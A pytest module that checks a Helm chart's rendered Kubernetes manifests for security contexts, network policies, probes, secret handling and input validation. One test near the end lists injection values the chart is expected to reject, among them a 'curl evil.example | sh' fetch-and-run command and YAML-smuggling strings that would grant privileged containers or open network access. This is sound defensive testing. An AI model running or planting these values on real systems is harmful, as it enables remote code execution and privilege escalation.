"""The Helm chart, as helm renders it for each set of values in `ci/`: valid, and what must hold.

There is no cluster here: nothing is installed. What Kubernetes would refuse by its schemas, and
what nobody may run with our chart, is found in the text.
"""

import json
import re
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest
import yaml

from tests.deploy.tools import OPS, ROOT, helm, need, run

CHART = ROOT / "helm" / "twofold"
SETS = sorted(path.name for path in (CHART / "ci").glob("*-values.yaml"))
VERSIONS = ("1.31", "1.32", "1.33", "1.34", "1.35", "1.36", "1.37")
WORKLOADS = ("Deployment", "StatefulSet", "Job", "CronJob")
LASTING = ("Deployment", "StatefulSet")
BUILT_IN = re.compile(r"v1|(apps|batch|autoscaling|policy|networking\.k8s\.io)/v\d")
Manifest = dict[str, Any]


@cache
def _rendered(values: str, *more: str) -> tuple[Manifest, ...]:
    done = run(helm(), "template", "live", CHART, "--namespace", "support", "--values",
               CHART / "ci" / values, *more)  # fmt: skip
    assert done.returncode == 0, done.stderr
    return tuple(doc for doc in yaml.safe_load_all(done.stdout) if doc)


def _of(values: str, *kinds: str) -> Iterator[Manifest]:
    return (doc for doc in _rendered(values) if doc["kind"] in kinds)


def _pod(workload: Manifest) -> dict[str, Any]:
    spec = workload["spec"]
    if workload["kind"] == "CronJob":
        spec = spec["jobTemplate"]["spec"]
    return spec["template"]


def _containers(workload: Manifest) -> list[dict[str, Any]]:
    spec = _pod(workload)["spec"]
    return [*spec["containers"], *spec.get("initContainers", ())]


def _id(workload: Manifest) -> str:
    return f"{workload['kind']} {workload['metadata']['name']}"


def _selects(selector: dict[str, Any], labels: dict[str, str]) -> bool:
    return selector.get("matchLabels", {}).items() <= labels.items()


def test_there_are_enough_sets() -> None:
    assert len(SETS) >= 8


@pytest.mark.parametrize("values", SETS)
def test_helm_finds_nothing(values: str) -> None:
    done = run(helm(), "lint", "--strict", CHART, "--values", CHART / "ci" / values)
    assert done.returncode == 0, done.stdout


def test_kubernetes_would_take_it() -> None:
    """Everything but custom resources, whose schemas their operators bring."""
    built_in = {
        json.dumps(doc, sort_keys=True): doc
        for values in SETS
        for doc in _rendered(values)
        if BUILT_IN.fullmatch(doc["apiVersion"])
    }
    kinds = {doc["kind"] for doc in built_in.values()}
    assert kinds >= {*WORKLOADS, "NetworkPolicy", "PodDisruptionBudget", "Ingress"}
    script = "tests/deploy/validate_manifests.py"
    manifests = json.dumps(list(built_in.values()))
    done = run(need(OPS / "python"), script, *VERSIONS, stdin=manifests)
    assert done.returncode == 0, (done.stdout + done.stderr)[-2000:]


@pytest.mark.parametrize("values", SETS)
def test_nothing_runs_as_root_or_may_become_it(values: str) -> None:
    for workload in _of(values, *WORKLOADS):
        pod = _pod(workload)["spec"]
        held = pod["securityContext"]
        assert held["runAsNonRoot"] is True, _id(workload)
        assert held["runAsUser"] > 0, _id(workload)
        assert held["seccompProfile"] == {"type": "RuntimeDefault"}, _id(workload)
        assert pod["automountServiceAccountToken"] is False, _id(workload)
        assert not {"hostNetwork", "hostPID", "hostIPC"} & pod.keys(), _id(workload)
        for container in _containers(workload):
            own = container["securityContext"]
            assert own["allowPrivilegeEscalation"] is False, _id(workload)
            assert own["readOnlyRootFilesystem"] is True, _id(workload)
            assert own["capabilities"] == {"drop": ["ALL"]}, _id(workload)


@pytest.mark.parametrize("values", SETS)
def test_images_do_not_move(values: str) -> None:
    for workload in _of(values, *WORKLOADS):
        for container in _containers(workload):
            assert re.search(r"(:v?\d+\.\d[\w.-]*|@sha256:[0-9a-f]{64})$", container["image"])


@pytest.mark.parametrize("values", SETS)
def test_every_container_has_limits(values: str) -> None:
    for workload in _of(values, *WORKLOADS):
        for container in _containers(workload):
            for bound in ("requests", "limits"):
                named = container["resources"][bound].keys()
                assert named >= {"cpu", "memory"}, (_id(workload), bound)


@pytest.mark.parametrize("values", SETS)
def test_what_lasts_has_probes_of_three_kinds_and_a_budget(values: str) -> None:
    budgets = list(_of(values, "PodDisruptionBudget"))
    for workload in _of(values, *LASTING):
        for container in _pod(workload)["spec"]["containers"]:
            for probe in ("startupProbe", "livenessProbe", "readinessProbe"):
                assert probe in container, (_id(workload), probe)
        labels = _pod(workload)["metadata"]["labels"]
        held = [each for each in budgets if _selects(each["spec"]["selector"], labels)]
        assert len(held) == 1, _id(workload)
        # A budget that lets nothing go keeps nodes from being drained.
        assert held[0]["spec"]["maxUnavailable"] == 1


@pytest.mark.parametrize("values", SETS)
def test_liveness_asks_no_store(values: str) -> None:
    """A database that is away must not restart what waits for it."""
    for workload in _of(values, "Deployment"):
        for container in _pod(workload)["spec"]["containers"]:
            assert container["livenessProbe"].get("httpGet", {}).get("path") != "/readyz"


@pytest.mark.parametrize("values", [each for each in SETS if each != "small-values.yaml"])
def test_every_port_is_let_in_by_a_policy_and_no_other(values: str) -> None:
    policies = list(_of(values, "NetworkPolicy"))
    for workload in _of(values, *WORKLOADS):
        pod = _pod(workload)
        labels = pod["metadata"]["labels"]
        mine = [each["spec"] for each in policies
                if _selects(each["spec"]["podSelector"], labels)]  # fmt: skip
        assert mine, _id(workload)
        assert all(each["policyTypes"] == ["Ingress", "Egress"] for each in mine), _id(workload)
        open_ports = {port["port"] for each in mine for rule in each.get("ingress", ())
                      for port in rule["ports"]}  # fmt: skip
        held = {port["containerPort"] for each in _containers(workload)
                for port in each.get("ports", ())}  # fmt: skip
        lone = workload["kind"] == "StatefulSet" and workload["spec"]["replicas"] == 1
        assert open_ports - ({6335} if lone else set()) == held - ({6335} if lone else set())


def test_only_the_answer_service_reaches_the_model() -> None:
    (policy,) = [each for each in _of("gpu-values.yaml", "NetworkPolicy")
                 if each["metadata"]["name"].endswith("-vllm")]  # fmt: skip
    doors = {rule["ports"][0]["port"]: rule["from"] for rule in policy["spec"]["ingress"]}
    (peer,) = doors[8000]
    assert peer["podSelector"]["matchLabels"]["app.kubernetes.io/component"] == "answer"
    assert "namespaceSelector" not in peer
    assert doors.keys() == {8000, 9102}


@pytest.mark.parametrize("values", SETS)
def test_services_find_pods_and_ports(values: str) -> None:
    workloads = list(_of(values, *LASTING))
    for service in _of(values, "Service"):
        wanted = {"matchLabels": service["spec"]["selector"]}
        selected = [
            each for each in workloads if _selects(wanted, _pod(each)["metadata"]["labels"])
        ]
        assert len(selected) == 1, service["metadata"]["name"]
        names = {
            port["name"] for each in _containers(selected[0]) for port in each.get("ports", ())
        }
        assert {port["targetPort"] for port in service["spec"]["ports"]} <= names


@pytest.mark.parametrize("values", SETS)
def test_volumes_and_mounts_agree(values: str) -> None:
    for workload in _of(values, *WORKLOADS):
        pod = _pod(workload)["spec"]
        there = {volume["name"] for volume in pod.get("volumes", ())}
        there |= {claim["metadata"]["name"] for claim
                  in workload["spec"].get("volumeClaimTemplates", ())}  # fmt: skip
        used = {mount["name"] for each in _containers(workload) for mount in each["volumeMounts"]}
        assert used == there, _id(workload)


@pytest.mark.parametrize("values", SETS)
def test_no_secret_stands_outside_a_secret(values: str) -> None:
    secrets = list(_of(values, "Secret"))
    plain = {value for each in secrets for value in each["data"].values()}
    rest = yaml.safe_dump([doc for doc in _rendered(values) if doc["kind"] != "Secret"])
    assert not any(value in rest for value in plain)
    for workload in _of(values, *WORKLOADS):
        for container in _containers(workload):
            for entry in container.get("env", ()):
                secret = re.search(r"(KEY|PASSWORD|TOKEN)$", entry["name"])
                assert not secret or "valueFrom" in entry, entry


def test_streams_drain_before_a_pod_stops() -> None:
    for workload in _of("default-values.yaml", "Deployment"):
        name = workload["metadata"]["name"].rpartition("-")[2]
        if name in ("answer", "widget"):
            pod = _pod(workload)["spec"]
            drain = pod["containers"][0]["lifecycle"]["preStop"]["sleep"]["seconds"]
            # uvicorn gives open streams ten seconds more.
            assert pod["terminationGracePeriodSeconds"] >= drain + 10
            assert workload["spec"]["strategy"]["rollingUpdate"]["maxUnavailable"] == 0


def test_streams_are_not_held_up_on_their_way() -> None:
    (ingress,) = _of("ingress-values.yaml", "Ingress")
    annotations = ingress["metadata"]["annotations"]
    assert annotations["nginx.ingress.kubernetes.io/proxy-buffering"] == "off"
    assert int(annotations["nginx.ingress.kubernetes.io/proxy-read-timeout"]) >= 600
    (route,) = _of("gateway-values.yaml", "HTTPRoute")
    assert all(rule["timeouts"]["request"] == "0s" for rule in route["spec"]["rules"])


def test_metrics_and_probes_are_not_published() -> None:
    (ingress,) = _of("ingress-values.yaml", "Ingress")
    paths = {each["path"] for rule in ingress["spec"]["rules"] for each in rule["http"]["paths"]}
    assert not any("/metrics".startswith(path) or "/readyz".startswith(path) for path in paths)


def test_migrations_come_before_what_an_upgrade_changes() -> None:
    (job,) = [each for each in _of("default-values.yaml", "Job")
              if each["metadata"]["name"].endswith("-migrations")]  # fmt: skip
    assert "pre-upgrade" in job["metadata"]["annotations"]["helm.sh/hook"]


def test_secrets_stay_when_a_release_goes() -> None:
    (secret,) = _of("default-values.yaml", "Secret")
    assert secret["metadata"]["annotations"]["helm.sh/resource-policy"] == "keep"
    for values in ("external-stores-values.yaml", "external-secrets-values.yaml"):
        assert not list(_of(values, "Secret"))


@pytest.mark.parametrize(
    ("settings", "told"),
    [
        (("postgres.enabled=false",), "TWOFOLD_LEDGER_URL"),
        (("redis.enabled=false",), "TWOFOLD_REDIS_URL"),
        (("qdrant.enabled=false",), "qdrant.url"),
        (("qdrant.copies=2",), "qdrant.replicas"),
        (("vllm.enabled=true", "vllm.external.url=https://a.example/v1"), "choose one"),
        (("image.tag=latest",), "tag"),
        (("vllm.image=vllm/vllm-openai",), "vllm"),
        (("answer.replica=3",), "replica"),
        (("backup.restore=20260101t021700",), "backup.enabled"),
    ],
)
def test_what_cannot_work_is_refused_with_what_to_do(settings: tuple[str, ...], told: str) -> None:
    options = [each for setting in settings for each in ("--set", setting)]
    done = run(helm(), "template", "live", CHART, *options)
    assert done.returncode != 0
    assert told in done.stderr


@pytest.mark.parametrize(
    "setting",
    [
        'priorityClassName="x\\nserviceAccountName: admin"',
        'ingress.host="a.example\\n      http: {paths: []}"',
        'image.repository="a\\n          securityContext: {privileged: true}"',
        'secrets.existingSecret="a}, other: {b"',
        'qdrant.storage.storageClass="a\\n        volumeName: stolen"',
        'monitoring.prometheusUrl="http://a\\n        query: 1"',
        'vllm.revision="x; curl evil.example | sh"',
        'vllm.revision="--trust-remote-code"',
        'networkPolicy.stores=[{"cidr": "10.0.0.0/8}}, {ipBlock: {cidr: 0.0.0.0/0", "ports": [1]}]',
    ],
)
def test_a_value_is_a_value_and_no_part_of_a_manifest_or_a_command(setting: str) -> None:
    done = run(helm(), "template", "live", CHART, "--set", "vllm.enabled=true,ingress.enabled=true",
               "--set-json", setting)  # fmt: skip
    assert done.returncode != 0, done.stdout
    assert "does not match pattern" in done.stderr


def test_a_long_context_is_a_number_to_the_model_server() -> None:
    docs = _rendered("gpu-values.yaml", "--set-json", "vllm.maxModelLength=1048576")
    (vllm,) = (
        doc
        for doc in docs
        if doc["kind"] == "Deployment" and doc["metadata"]["name"].endswith("vllm")
    )
    assert "--max-model-len 1048576 " in _containers(vllm)[0]["args"][0]


def test_the_widget_has_no_way_to_the_index() -> None:
    (policy,) = (doc for doc in _of("default-values.yaml", "NetworkPolicy")
                 if doc["metadata"]["name"].endswith("-qdrant"))  # fmt: skip
    components = {
        peer["podSelector"]["matchLabels"].get("app.kubernetes.io/component")
        for rule in policy["spec"]["ingress"]
        for peer in rule["from"]
        if "podSelector" in peer
    }
    assert "answer" in components
    assert "widget" not in components


def test_the_chart_carries_every_rule_and_dashboard() -> None:
    switches = (
        "--set",
        "monitoring.prometheusRule.enabled=true",
        "--set",
        "monitoring.dashboards.enabled=true",
    )
    docs = _rendered("company-values.yaml", *switches)
    boards = {
        name: text
        for doc in docs
        if "-dashboard-" in doc["metadata"]["name"]
        for name, text in doc["data"].items()
    }
    assert boards == {path.name: path.read_text() for path in (CHART / "dashboards").iterdir()}
    assert len(boards) >= 6
    groups = [
        group for doc in docs if doc["kind"] == "PrometheusRule" for group in doc["spec"]["groups"]
    ]
    assert groups == [
        group
        for path in sorted((CHART / "rules").iterdir())
        for group in yaml.safe_load(path.read_text())["groups"]
    ]
    assert len(groups) >= 2
